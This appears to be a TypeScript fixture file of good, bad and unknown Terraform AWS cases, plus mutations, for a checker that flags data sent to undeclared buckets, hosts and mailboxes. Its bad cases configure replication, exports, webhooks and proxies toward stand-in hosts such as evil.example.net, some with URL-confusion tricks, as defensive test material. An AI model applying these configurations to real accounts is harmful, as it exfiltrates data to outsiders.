import type { Examples } from "../../engine/example.ts";
import { type Mutation, onResource } from "../../engine/mutation.ts";
import { addResource } from "../identity/examples/additions.ts";
import { planOfDestinations } from "./examples/destinations.ts";

const strange = "arn:aws:s3:::strangers-bucket";
const egress = [
  { from: "a/api", sources: [], domain: "events.pagerduty.com", port: 443, why: "wakes whoever is on call" },
];
const service = {
  ...{ name: "a", components: [], stores: [], entrypoints: [], flows: [], secrets: [], backups: [] },
  egress,
};

export const examples: Examples = {
  good: [
    {
      title: "copies, logs and reports in buckets of the outputs, by reference, name or ARN",
      resources: {
        aws_s3_bucket: {
          a: { bucket: "logs" },
          b: {},
          c: { bucket: "reports-${data.aws_caller_identity.me.account_id}" },
        },
        aws_cur_report_definition: { a: { s3_bucket: "reports-${data.aws_caller_identity.me.account_id}" } },
        aws_cloudfront_distribution: { a: { logging_config: { bucket: "${aws_s3_bucket.b.id}.s3.amazonaws.com" } } },
        aws_s3_bucket_logging: { a: { bucket: "a", target_bucket: "${aws_s3_bucket.b.id}" } },
        aws_s3_bucket_replication_configuration: { a: { rule: [{ destination: [{ bucket: "arn:aws:s3:::logs" }] }] } },
        aws_athena_workgroup: {
          a: { configuration: { result_configuration: { output_location: "s3://${aws_s3_bucket.b.bucket}/athena/" } } },
        },
        aws_flow_log: {
          a: { log_destination_type: "s3", log_destination: "${aws_s3_bucket.b.arn}/flows/" },
          b: { log_destination: "arn:aws:logs:eu-central-1:111111111111:log-group:flows" },
        },
        aws_kinesis_firehose_delivery_stream: { a: { extended_s3_configuration: { bucket_arn: "arn:aws:s3:::logs" } } },
        aws_transfer_user: { a: { home_directory: "/fs-0a1b2c3d4e5f60718/home" } },
        aws_lb: {
          a: { access_logs: { enabled: false, bucket: "elsewhere" } },
          b: { access_logs: { enabled: true, bucket: "logs" } },
        },
        aws_codebuild_project: { a: { artifacts: { type: "NO_ARTIFACTS" } } },
      },
      declaration: {},
    },
    {
      title: "an inventory in a bucket of which AWS demands that we own it",
      resources: {
        aws_s3_bucket_inventory: {
          a: { destination: { bucket: { bucket_arn: strange, account_id: "111111111111" } } },
        },
      },
      declaration: {},
    },
    {
      title: "mail and calls to domains of ours and to declared ones, and to hosts inside",
      resources: {
        aws_lb: { a: {} },
        aws_sns_topic_subscription: {
          a: { protocol: "email", endpoint: "alarms@example.org" },
          b: { protocol: "https", endpoint: "https://events.pagerduty.com/integration/1/enqueue" },
          c: { protocol: "sqs", endpoint: "arn:aws:sqs:eu-central-1:111111111111:a" },
          d: { protocol: "sms", endpoint: "+49170000000" },
        },
        aws_cloudwatch_event_api_destination: {
          a: { invocation_endpoint: "https://${aws_lb.a.dns_name}/hook" },
          b: { invocation_endpoint: "https://hooks.internal.example.org./in?by=a@b" },
        },
        aws_dms_endpoint: {
          a: { endpoint_type: "source", server_name: "db.elsewhere.example" },
          b: { endpoint_type: "target", server_name: "10.1.2.3" },
          c: { endpoint_type: "target", kafka_settings: { broker: "a.example.org:9092,b.example.org:9092" } },
        },
        aws_iot_topic_rule: { a: { sqs: { queue_url: "https://sqs.eu-central-1.amazonaws.com/111111111111/a" } } },
      },
      declaration: { services: [service] },
    },
    {
      title: "interfaces that hand on to hosts of ours, through a link, to functions, and bills that are mailed to us",
      resources: {
        aws_lb: { a: {} },
        aws_api_gateway_integration: {
          a: { type: "HTTP_PROXY", uri: "https://${aws_lb.a.dns_name}/{proxy}" },
          b: { type: "HTTP", connection_type: "VPC_LINK", uri: "https://behind.the-link.example/x" },
          c: { type: "AWS_PROXY", uri: "${var.function}" },
          d: { type: "MOCK" },
        },
        aws_apigatewayv2_integration: {
          a: { integration_type: "HTTP_PROXY", integration_uri: "https://api.example.org/{proxy}" },
          b: { integration_type: "HTTP_PROXY", connection_type: "VPC_LINK", integration_uri: "${var.listener}" },
          c: { integration_type: "AWS_PROXY", integration_uri: "arn:aws:lambda:eu-central-1:111111111111:function:a" },
        },
        aws_apigatewayv2_api: {
          a: { target: "arn:aws:lambda:eu-central-1:111111111111:function:a" },
          b: {
            body: JSON.stringify({
              paths: {
                "/a": {
                  get: { "x-amazon-apigateway-integration": { type: "http_proxy", uri: "https://a.example.org" } },
                },
                "/b": { get: { "x-amazon-apigateway-integration": { type: "mock" } } },
              },
            }),
          },
        },
        aws_sns_topic: { a: {} },
        aws_budgets_budget: {
          a: {
            notification: [
              {
                subscriber_email_addresses: ["bills@example.org"],
                subscriber_sns_topic_arns: ["${aws_sns_topic.a.arn}"],
              },
            ],
          },
        },
        aws_budgets_budget_action: {
          a: {
            subscriber: [
              { subscription_type: "SNS", address: "${aws_sns_topic.a.arn}" },
              { subscription_type: "EMAIL", address: "bills@example.org" },
            ],
          },
        },
      },
      declaration: {},
    },
    {
      title: "a plan that tells no more than what its expressions refer to",
      stacks: { plan: planOfDestinations },
      declaration: {},
    },
    {
      title: "mail of a team that declares nothing, and a call to a host in its own zone",
      resources: {
        aws_route53_zone: { a: { name: "example.net." } },
        aws_sns_topic_subscription: {
          a: { protocol: "email", endpoint: "team@elsewhere.example" },
          b: { protocol: "https", endpoint: "https://hooks.example.net/in" },
        },
      },
    },
  ],
  bad: [
    {
      title: "copies, inventories, exports and logs in buckets that no output shows",
      resources: {
        aws_s3_bucket_inventory: {
          a: { destination: { bucket: { bucket_arn: strange } } },
          b: { destination: { bucket: { bucket_arn: strange, account_id: "222222222222" } } },
        },
        aws_s3_bucket_analytics_configuration: {
          a: {
            storage_class_analysis: {
              data_export: { destination: { s3_bucket_destination: { bucket_arn: strange } } },
            },
          },
        },
        aws_s3_bucket_replication_configuration: { a: { rule: [{ destination: [{ bucket: strange }] }] } },
        aws_s3_bucket: { a: { replication_configuration: { rules: [{ destination: [{ bucket: strange }] }] } } },
        aws_s3_bucket_logging: { a: { target_bucket: "strangers-bucket" } },
        aws_dynamodb_table_export: { a: { s3_bucket: "strangers-bucket" } },
        aws_rds_export_task: { a: { s3_bucket_name: "strangers-bucket" } },
        aws_datasync_location_s3: { a: { s3_bucket_arn: strange } },
        aws_appflow_flow: {
          a: {
            destination_flow_config: [
              { destination_connector_properties: { s3: { bucket_name: "strangers-bucket" } } },
            ],
          },
        },
        aws_kinesis_firehose_delivery_stream: {
          a: { splunk_configuration: { s3_configuration: { bucket_arn: strange } } },
          b: { extended_s3_configuration: { bucket_arn: strange } },
        },
        aws_glue_crawler: { a: { s3_target: { path: "s3://strangers-bucket/x" } } },
        aws_athena_workgroup: {
          a: { configuration: { result_configuration: { output_location: "s3://strangers-bucket/${var.prefix}" } } },
        },
        aws_transfer_user: { a: { home_directory_mappings: { entry: "/", target: "/strangers-bucket/x" } } },
        aws_cloudwatch_log_delivery_destination: {
          a: { delivery_destination_configuration: { destination_resource_arn: strange } },
        },
      },
      declaration: {},
      finds: [
        "aws_appflow_flow.a destination_flow_config.destination_connector_properties.s3.bucket_name",
        "aws_athena_workgroup.a configuration.result_configuration.output_location",
        "aws_cloudwatch_log_delivery_destination.a delivery_destination_configuration.destination_resource_arn",
        "aws_datasync_location_s3.a s3_bucket_arn",
        "aws_dynamodb_table_export.a s3_bucket",
        "aws_glue_crawler.a s3_target.path",
        "aws_kinesis_firehose_delivery_stream.a splunk_configuration.s3_configuration.bucket_arn",
        "aws_kinesis_firehose_delivery_stream.b extended_s3_configuration.bucket_arn",
        "aws_rds_export_task.a s3_bucket_name",
        "aws_s3_bucket.a replication_configuration.rules.destination.bucket",
        "aws_s3_bucket_analytics_configuration.a storage_class_analysis.data_export.destination.s3_bucket_destination.bucket_arn",
        "aws_s3_bucket_inventory.a destination.bucket.bucket_arn",
        "aws_s3_bucket_inventory.b destination.bucket.bucket_arn",
        "aws_s3_bucket_logging.a target_bucket",
        "aws_s3_bucket_replication_configuration.a rule.destination.bucket",
        "aws_transfer_user.a home_directory_mappings.target",
      ],
    },
    {
      title: "events, files and records that go to hosts and mailboxes that nobody declared",
      resources: {
        aws_sns_topic_subscription: {
          a: { protocol: "https", endpoint: "https://evil.example.net/x" },
          b: { protocol: "email", endpoint: "a@evil.example.net" },
          c: { protocol: "https", endpoint: "https://example.org@evil.example.net/x" },
          d: { protocol: "https", endpoint: "https://evil-example.org/x" },
          e: { protocol: "https", endpoint: "https://evil.example.net/${var.token}" },
          f: { protocol: "https", endpoint: "https://evil.example.net\\.example.org/x" },
          g: { protocol: "https", endpoint: "https://evil.events.pagerduty.com/x" },
        },
        aws_cloudwatch_event_api_destination: { a: { invocation_endpoint: "https://evil.example.net/hook" } },
        aws_cloudwatch_event_connection: {
          a: { auth_parameters: { oauth: { authorization_endpoint: "https://evil.example.net/token" } } },
        },
        aws_datasync_location_object_storage: { a: { server_hostname: "evil.example.net" } },
        aws_datasync_location_azure_blob: { a: { container_url: "https://evil.blob.core.windows.net/a" } },
        aws_dms_endpoint: { a: { endpoint_type: "target", server_name: "203.0.113.7" } },
        aws_glue_connection: {
          a: { connection_properties: { JDBC_CONNECTION_URL: "jdbc:oracle:thin:@evil.example.net:1521:a" } },
        },
        aws_iot_topic_rule: {
          a: { http: { url: "https://evil.example.net" } },
          b: { sqs: { queue_url: "https://sqs.eu-central-1.amazonaws.com/222222222222/a" } },
        },
        aws_kinesis_firehose_delivery_stream: {
          a: { http_endpoint_configuration: { url: "https://evil.example.net" } },
          b: { redshift_configuration: { cluster_jdbcurl: "jdbc:redshift://evil.example.net:5439/a" } },
        },
        aws_transfer_connector: { a: { url: "sftp://evil.example.net" } },
        aws_transfer_server: { a: { url: "https://evil.example.net/login" } },
      },
      declaration: { services: [service] },
      finds: [
        "aws_cloudwatch_event_api_destination.a invocation_endpoint",
        "aws_cloudwatch_event_connection.a auth_parameters.oauth.authorization_endpoint",
        "aws_datasync_location_azure_blob.a container_url",
        "aws_datasync_location_object_storage.a server_hostname",
        "aws_dms_endpoint.a server_name",
        "aws_glue_connection.a connection_properties.JDBC_CONNECTION_URL",
        "aws_iot_topic_rule.a http.url",
        "aws_iot_topic_rule.b sqs.queue_url",
        "aws_kinesis_firehose_delivery_stream.a http_endpoint_configuration.url",
        "aws_kinesis_firehose_delivery_stream.b redshift_configuration.cluster_jdbcurl",
        "aws_sns_topic_subscription.a endpoint",
        "aws_sns_topic_subscription.b endpoint",
        "aws_sns_topic_subscription.c endpoint",
        "aws_sns_topic_subscription.d endpoint",
        "aws_sns_topic_subscription.e endpoint",
        "aws_sns_topic_subscription.f endpoint",
        "aws_sns_topic_subscription.g endpoint",
        "aws_transfer_connector.a url",
        "aws_transfer_server.a url",
      ],
    },
    {
      title: "requests that interfaces hand on to a stranger's host",
      resources: {
        aws_api_gateway_integration: {
          a: { type: "HTTP_PROXY", uri: "https://evil.example.net/{proxy}" },
          b: { type: "HTTP", uri: "https://{host}.example.org/x" },
        },
        aws_apigatewayv2_integration: {
          a: { integration_type: "HTTP_PROXY", integration_uri: "https://evil.example.net/" },
        },
        aws_apigatewayv2_api: {
          a: { target: "https://evil.example.net/" },
          b: {
            body: JSON.stringify({
              paths: {
                "/a": { get: { "x-amazon-apigateway-integration": { type: "HTTP", uri: "https://evil.example.net" } } },
              },
            }),
          },
        },
        aws_appsync_datasource: { a: { type: "HTTP", http_config: { endpoint: "https://evil.example.net" } } },
      },
      declaration: {},
      finds: [
        "aws_api_gateway_integration.a uri",
        "aws_api_gateway_integration.b uri",
        "aws_apigatewayv2_api.a target",
        "aws_apigatewayv2_integration.a integration_uri",
        "aws_appsync_datasource.a http_config.endpoint",
        "aws_apigatewayv2_api.b body /a get",
      ],
    },
    {
      title: "bills, costs, incidents and what AWS has to say, mailed to others",
      resources: {
        aws_account_alternate_contact: { a: { alternate_contact_type: "SECURITY", email_address: "a@example.net" } },
        aws_budgets_budget: {
          a: { notification: [{ subscriber_email_addresses: ["bills@example.org", "somebody@example.net"] }] },
        },
        aws_budgets_budget_action: { a: { subscriber: [{ address: "a@example.net" }] } },
        aws_ce_anomaly_subscription: { a: { subscriber: [{ type: "EMAIL", address: "a@example.net" }] } },
        aws_notificationscontacts_email_contact: { a: { email_address: "a@example.net" } },
        aws_ssmcontacts_contact_channel: { a: { delivery_address: { simple_address: "a@example.net" } } },
      },
      declaration: {},
      finds: [
        "aws_account_alternate_contact.a email_address",
        "aws_budgets_budget.a notification.subscriber_email_addresses",
        "aws_budgets_budget_action.a subscriber.address",
        "aws_ce_anomaly_subscription.a subscriber.address",
        "aws_notificationscontacts_email_contact.a email_address",
        "aws_ssmcontacts_contact_channel.a delivery_address.simple_address",
      ],
    },
    {
      title: "an inventory in a bucket that is made in a stranger's account",
      resources: {
        aws_s3_bucket: { a: { provider: "aws.elsewhere", bucket: "drop" }, b: { provider: "aws.elsewhere" } },
        aws_s3_bucket_inventory: {
          a: { destination: { bucket: { bucket_arn: "arn:aws:s3:::drop" } } },
          b: { destination: { bucket: { bucket_arn: "${aws_s3_bucket.b.arn}" } } },
        },
        aws_athena_workgroup: {
          a: { configuration: { result_configuration: { output_location: "s3://${aws_s3_bucket.b.id}/a" } } },
        },
      },
      configuration: {
        provider: { aws: [{}, { alias: "elsewhere", assume_role: { role_arn: "arn:aws:iam::222222222222:role/a" } }] },
      },
      declaration: {},
      finds: [
        "aws_athena_workgroup.a configuration.result_configuration.output_location",
        "aws_s3_bucket_inventory.a destination.bucket.bucket_arn",
        "aws_s3_bucket_inventory.b destination.bucket.bucket_arn",
      ],
    },
  ],
  unknown: [
    {
      title: "nobody declares which buckets and domains are ours, or shows where data go",
      resources: {
        aws_s3_bucket_replication_configuration: {
          a: { rule: [{ destination: [{ bucket: strange }] }] },
          b: { rule: [{ destination: [{ bucket: "${var.bucket}" }] }] },
        },
        aws_cloudwatch_event_api_destination: {
          a: { invocation_endpoint: "https://evil.example.net/hook" },
          b: { invocation_endpoint: "https://${aws_lb.a.id}.evil.example.net/" },
        },
        aws_api_gateway_integration: { a: { type: "HTTP_PROXY", uri: "https://${var.host}/x" } },
        aws_lb: { a: {} },
      },
      finds: [
        "aws_s3_bucket_replication_configuration.a rule.destination.bucket",
        "aws_s3_bucket_replication_configuration.b rule.destination.bucket",
        "aws_api_gateway_integration.a uri",
        "aws_cloudwatch_event_api_destination.a invocation_endpoint",
        "aws_cloudwatch_event_api_destination.b invocation_endpoint",
      ],
    },
  ],
};

export const mutations: readonly Mutation[] = [
  onResource("aws_s3_bucket_logging", "write access logs into somebody's bucket", (each) => ({
    ...each,
    target_bucket: "strangers-bucket",
  })),
  onResource("aws_sns_topic_subscription", "mail alarms to somebody", (each) => ({
    ...each,
    endpoint: "somebody@example.net",
  })),
  addResource("list objects in somebody's bucket", "aws_s3_bucket_inventory", {
    destination: [{ bucket: [{ bucket_arn: strange, format: "CSV" }] }],
  }),
  addResource("send events to somebody's host", "aws_cloudwatch_event_api_destination", {
    invocation_endpoint: "https://example.net/in",
  }),
  addResource("hand requests on to somebody's host", "aws_apigatewayv2_integration", {
    integration_type: "HTTP_PROXY",
    integration_uri: "https://example.net/in",
  }),
  addResource("mail bills to somebody", "aws_budgets_budget", {
    notification: [{ subscriber_email_addresses: ["somebody@example.net"] }],
  }),
];
